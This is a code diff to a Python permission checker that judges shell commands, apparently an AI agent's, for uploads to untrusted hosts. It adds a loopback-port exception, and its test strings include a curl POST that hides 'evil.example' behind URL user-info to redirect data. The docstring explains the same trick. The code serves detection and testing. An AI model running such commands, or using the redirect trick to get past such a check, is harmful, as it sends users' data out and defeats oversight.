@@ -6,7 +6,7 @@ from .. import paths, pathstr
 from ..lazyre import MULTILINE, lazy
 from ..model import ASK, HARD_DENY, SOFT_DENY
 from ..paths import DYN
-from ..shell.ir import Word
+from ..shell.ir import LINE_SET, Word
 from ..shell.outputs import literal_stdin
 from ..shell.programs import INTERPRETERS, run_targets
 from ..shell.unwrap import SHELLS, shell_flags, socat_programs
@@ -1017,12 +1017,18 @@ def upload_own_host(cmd: SimpleCommand, sc: Scope) -> str | None:
         "curl -X POST -d '{\"a\":1}' https://api.example.com/items",
         "curl -X DELETE https://api.example.com/items/1",
         "http POST api.example.com/x name=ana",
+        "curl -X POST http://localhost:$X@evil.example/api -d 'u=a'",
     ),
-    no_match=("curl -s https://registry.npmjs.org/react", "curl -X POST localhost:3000/api/login -d 'u=a'"),
+    no_match=(
+        "curl -s https://registry.npmjs.org/react",
+        "curl -X POST localhost:3000/api/login -d 'u=a'",
+        "curl -X POST http://localhost:${PORT}/api/login -d 'u=a'",
+    ),
 )
 def post_untrusted(cmd: SimpleCommand, sc: Scope) -> str | None:
     t = http_transfer(cmd)
-    bad = _untrusted(t.hosts, sc, t.urls)
+    mine = [i for i, u in enumerate(t.urls) if not _environment_port(u, cmd, sc)]
+    bad = _untrusted([t.hosts[i] for i in mine], sc, [t.urls[i] for i in mine])
     if not bad or t.files or t.stdin:
         return None
     if t.inline or t.method not in ("GET", "HEAD", "OPTIONS"):
@@ -1199,6 +1205,31 @@ def own_ssh_host(host: str) -> bool:
     if not h or DYN in h:
         return False
     return _on_local_network(h) or (not h.isdigit() and _ONE_LABEL.match(h) is not None)
+
+
+# A URL whose port field is one parameter expansion and nothing else, the authority ending after it: `:$PORT/`,
+# `:${PORT}`, `:${PORT:-3000}` (the word's raw text with its quotes taken out; group 1 the host, 2 or 3 the name).
+_PORT_PARAMETER = lazy(r"^(?:[A-Za-z][\w+.-]*://)?([^/?#@$\\]+):\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)(?::?-\d+)?\})(?:[/?#]|$)")
+_RUNTIME_PORT = lazy(r"^(?:[A-Za-z][\w+.-]*://)?([^/?#@\x00]+):\x00(?:[/?#]|$)")
+
+
+def _environment_port(url: str, cmd: SimpleCommand, sc: Scope) -> bool:
+    """Whether *url* is a loopback address whose port is the value of an environment variable the line does not
+    assign (`http://localhost:$PORT/api`): the dev server the agent started on $PORT.  Run-time text after a host may
+    hold user-info that moves the request (`$X` = "@evil.example"), but a variable in the environment the command
+    starts with is the user's setting, not text the agent wrote; a value the line assigns is read (and judged as the
+    host it gives), and a command's output (`:$(cat f)`), a variable the line fills from run-time text (`read P`, a
+    loop over a command's output, anything after `source`: ir.LINE_SET), a default that is not a number, or more
+    run-time text in the authority keep the host unknown."""
+    m = _RUNTIME_PORT.match(url)
+    if m is None or not sc.trust.host_is_local(m.group(1)):
+        return False
+    for w in cmd.args:
+        if w.value in (url, "--url=" + url) and not w.subs:
+            p = _PORT_PARAMETER.match(w.raw.removeprefix("--url=").replace('"', "").replace("'", ""))
+            if p is not None and p.group(1).lower() == m.group(1).lower() and (p.group(2) or p.group(3)) in w.vars and LINE_SET not in w.vars:
+                return True
+    return False
 
 
 def _on_local_network(host: str) -> bool:
